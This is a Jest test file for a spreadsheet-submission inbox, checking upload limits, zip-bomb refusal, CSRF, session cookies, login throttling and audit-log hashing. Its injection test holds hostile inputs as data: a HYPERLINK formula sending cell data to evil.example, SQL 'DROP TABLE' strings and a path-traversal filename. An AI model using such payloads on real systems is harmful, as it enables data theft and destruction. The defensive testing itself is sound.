import { createHash, createHmac, randomBytes } from 'node:crypto';
import http from 'node:http';
import type { TemplateSpec } from '../../src/domain/template';
import { registryCell, sampleWorkbook, setRegistryCell, startTestInbox, XLSX, type TestInbox } from './helpers';
import { zipBomb } from './zipbomb';

/** Sends `declared` bytes of body (or chunked when null) until the server answers; returns the
 *  status and how much was actually sent. */
function pushUntilAnswered(url: string, token: string, declared: number | null, cap: number): Promise<{ status: number; sent: number; body: string }> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string | number> = { authorization: `Bearer ${token}`, 'content-type': XLSX };
    if (declared !== null) headers['content-length'] = declared;
    const req = http.request(`${url}/api/submissions`, { method: 'POST', headers });
    let sent = 0;
    let answered = false;
    req.on('response', (res) => {
      answered = true;
      let body = '';
      res.on('data', (d) => (body += d));
      res.on('end', () => {
        resolve({ status: res.statusCode ?? 0, sent, body });
        req.destroy();
      });
    });
    req.on('error', (e) => (answered ? undefined : reject(e)));
    const chunk = Buffer.alloc(64 * 1024, 0x41);
    const pump = (): void => {
      while (!answered && sent < cap) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once('drain', pump);
      }
      if (!answered) req.end();
    };
    pump();
  });
}

describe('inbox security', () => {
  let inbox: TestInbox;
  let token: string;
  beforeAll(async () => {
    inbox = await startTestInbox({ maxUploadBytes: 1024 * 1024 });
    token = await inbox.addUnit('bac-ninh-2017', 'BN-TS');
    await inbox.addStaff('lan', 'mật khẩu dài 123');
  }, 60_000);
  afterAll(() => inbox.close());

  test('a declared Content-Length over the limit gets 413 before the body is read', async () => {
    const r = await pushUntilAnswered(inbox.url, token, 200 * 1024 * 1024, 200 * 1024 * 1024);
    expect(r.status).toBe(413);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'too_large', message_vi: expect.stringContaining('1 MB') });
    expect(r.sent).toBeLessThan(20 * 1024 * 1024);
  });

  test('a streamed (chunked) body over the limit is cut off with 413', async () => {
    const r = await pushUntilAnswered(inbox.url, token, null, 200 * 1024 * 1024);
    expect(r.status).toBe(413);
    expect(r.sent).toBeLessThan(50 * 1024 * 1024);
  });

  test('an over-limit body from an unknown token is refused (401) without reading it', async () => {
    const r = await pushUntilAnswered(inbox.url, 'x'.repeat(43), 200 * 1024 * 1024, 200 * 1024 * 1024);
    expect(r.status).toBe(401);
    expect(r.sent).toBeLessThan(20 * 1024 * 1024);
  });

  test('a zip bomb is refused from its directory, and a lying one without exhausting memory', async () => {
    const honest = await zipBomb(100 * 1024 * 1024);
    expect(honest.length).toBeLessThan(1024 * 1024);
    const res = await inbox.request('POST', '/api/submissions', { headers: { authorization: `Bearer ${token}`, 'content-type': XLSX }, body: honest });
    expect(res.status).toBe(400);
    expect(res.json()).toMatchObject({ error: 'zip_bomb', message_en: expect.stringMatching(/inflate/) });
    const lying = await zipBomb(100 * 1024 * 1024, true);
    const before = process.memoryUsage().rss;
    const res2 = await inbox.request('POST', '/api/submissions', { headers: { authorization: `Bearer ${token}`, 'content-type': XLSX }, body: lying });
    expect([400, 422]).toContain(res2.status);
    expect(process.memoryUsage().rss - before).toBeLessThan(250 * 1024 * 1024);
    expect(await inbox.ctx.store.countVersions()).toBe(0);
  }, 60_000);

  test('SQL- and formula-injection text in cells and names is stored as inert data and read back byte for byte', async () => {
    const name = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")';
    const address = "'); DROP TABLE submissions; --";
    let spec: TemplateSpec | undefined;
    const bytes = await sampleWorkbook({
      rows: 12,
      seed: 11,
      edit: (s) => {
        setRegistryCell(s, 0, 'full_name', name);
        setRegistryCell(s, 1, 'address', address);
        spec = s;
      },
    });
    expect(registryCell(spec!, 0, 'full_name')).toBe(name);
    const res = await inbox.request('POST', '/api/submissions', {
      headers: { authorization: `Bearer ${token}`, 'content-type': XLSX, 'x-filename': "../../etc/passwd'; DROP TABLE units;--.xlsx" },
      body: bytes,
    });
    expect(res.status).toBe(200);
    expect(res.json().summary.warning).toBeGreaterThan(0); // FMT-06 flags the formula-like name
    const stored = (await inbox.ctx.store.getVersion(res.json().id))!;
    expect(stored.filename).toBe("passwd'; DROP TABLE units;--.xlsx");
    expect((await inbox.ctx.store.listUnits()).length).toBe(1);
    const { cookie } = await inbox.login('lan', 'mật khẩu dài 123');
    const file = await inbox.request('GET', `/api/staff/submissions/${stored.id}/file`, { headers: { cookie } });
    expect(file.status).toBe(200);
    expect(file.body.equals(bytes)).toBe(true);
    // The name is the inbox's own, never the one the unit sent.
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="BN-TS-2020-Q3-v1.xlsx"; filename*=UTF-8''BN-TS-2020-Q3-v1.xlsx`);
    const audit = JSON.stringify(await inbox.ctx.store.listAudit({ limit: 1000 }));
    expect(audit).not.toContain('HYPERLINK');
    expect(audit).not.toContain('DROP TABLE');
  });

  test('staff state changes need the session CSRF token; a cross-site form post is not even parsed', async () => {
    const { cookie, csrf } = await inbox.login('lan', 'mật khẩu dài 123');
    const id = (await inbox.ctx.store.listPeriodVersions('bac-ninh-2017', 2020, 3))[0].id;
    const accept = (headers: Record<string, string>) => inbox.request('POST', `/api/staff/submissions/${id}/accept`, { headers: { cookie, ...headers } });
    expect((await accept({})).status).toBe(403);
    expect((await accept({ 'x-csrf-token': 'forged' })).json()).toMatchObject({ error: 'csrf' });
    const form = await inbox.request('POST', `/api/staff/submissions/${id}/return`, {
      headers: { cookie, 'x-csrf-token': csrf, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'reason=x',
    });
    expect(form.status).toBe(415);
    expect((await inbox.request('POST', '/api/staff/logout', { headers: { cookie } })).status).toBe(403);
    expect((await inbox.request('POST', `/api/staff/submissions/${id}/accept`, { headers: { 'x-csrf-token': csrf } })).status).toBe(401);
    expect((await inbox.ctx.store.getVersion(id))!.state).toBe('submitted');
    const ok = await accept({ 'x-csrf-token': csrf });
    expect(ok.status).toBe(200);
    expect(ok.json().state).toBe('accepted');
  });

  test('the session cookie is httpOnly and SameSite=Strict; logout ends the session', async () => {
    const res = await inbox.request('POST', '/api/staff/login', { body: { user: 'lan', password: 'mật khẩu dài 123' } });
    const setCookie = String(res.headers.get('set-cookie'));
    expect(setCookie).toMatch(/^vr_session=[A-Za-z0-9_-]{43};/);
    expect(setCookie).toMatch(/HttpOnly/);
    expect(setCookie).toMatch(/SameSite=Strict/);
    const cookie = setCookie.split(';')[0];
    const csrf = res.json().csrf_token;
    expect((await inbox.request('GET', '/api/staff/me', { headers: { cookie } })).json()).toEqual({ user: 'lan', role: 'staff', csrf_token: csrf });
    expect((await inbox.request('POST', '/api/staff/logout', { headers: { cookie, 'x-csrf-token': csrf } })).status).toBe(200);
    expect((await inbox.request('GET', '/api/staff/me', { headers: { cookie } })).status).toBe(401);
  });
});

describe('failed authentication is slowed', () => {
  let inbox: TestInbox;
  beforeAll(async () => {
    inbox = await startTestInbox();
    await inbox.addStaff('lan', 'đúng-mật-khẩu');
  });
  afterAll(() => inbox.close());

  test('wrong unit tokens get 401, then 429 with Retry-After once they keep coming', async () => {
    const statuses: number[] = [];
    let retryAfter: string | null = null;
    for (let i = 0; i < 14; i += 1) {
      const res = await inbox.request('GET', '/api/units/me', { headers: { authorization: `Bearer wrong-token-${i}-aaaaaaaaaaaa` } });
      statuses.push(res.status);
      if (res.status === 429) retryAfter = res.headers.get('retry-after');
      if (res.status === 401) expect(res.json()).toMatchObject({ error: 'auth_failed', message_vi: expect.any(String), message_en: expect.any(String) });
    }
    expect(statuses.slice(0, 10).every((s) => s === 401)).toBe(true);
    expect(statuses).toContain(429);
    expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
  });

  test('wrong staff passwords get 401, then 429 even for the right password', async () => {
    const login = (password: string) => inbox.request('POST', '/api/staff/login', { body: { user: 'lan', password } });
    const statuses: number[] = [];
    for (let i = 0; i < 7; i += 1) statuses.push((await login(`sai-${i}`)).status);
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses).toContain(429);
    expect((await login('đúng-mật-khẩu')).status).toBe(429);
    const audit = await inbox.ctx.store.listAudit();
    expect(audit.filter((e) => e.action === 'login_failed').length).toBeGreaterThanOrEqual(5);
    expect(JSON.stringify(audit)).not.toContain('sai-');
  });

  test('the audit log keeps no unkeyed hash of a typed name: a password typed as the user name cannot be tested offline', async () => {
    const typed = 'MậtKhẩuThật#2024';
    const res = await inbox.request('POST', '/api/staff/login', { body: { user: typed, password: 'bất kỳ' } });
    expect(res.status).toBe(401);
    const event = (await inbox.ctx.store.listAudit()).find((e) => e.action === 'login_failed' && e.actor === 'anonymous' && !e.detail.user)!;
    const stored = JSON.stringify(event);
    expect(stored).not.toContain(typed);
    // No plain hash of what was typed, in any usual form or length.
    for (const algo of ['sha256', 'sha1', 'md5', 'sha512']) {
      const digest = createHash(algo).update(typed).digest('hex');
      expect(stored).not.toContain(digest.slice(0, 8));
    }
    // A keyed hash: the same under this inbox's secret, different under any other key.
    const keyed = event.detail.user_hmac as string;
    expect(keyed).toMatch(/^[0-9a-f]{16}$/);
    const secret = await inbox.ctx.store.serverSecret('typed-text');
    expect(keyed).toBe(createHmac('sha256', secret).update(typed).digest('hex').slice(0, 16));
    expect(keyed).not.toBe(createHmac('sha256', randomBytes(32)).update(typed).digest('hex').slice(0, 16));
    // Staff read the log through the API: no secret is in it.
    expect(stored).not.toContain(secret.toString('hex').slice(0, 16));
  });

  test("a failed sign-in to a real account names the account, which staff may see", async () => {
    await inbox.addStaff('hoa', 'mật khẩu của Hoa dài');
    await inbox.request('POST', '/api/staff/login', { body: { user: 'hoa', password: 'sai' } });
    const event = (await inbox.ctx.store.listAudit()).find((e) => e.action === 'login_failed' && e.detail.user === 'hoa')!;
    expect(event.detail).toEqual({ user: 'hoa' });
  });
});
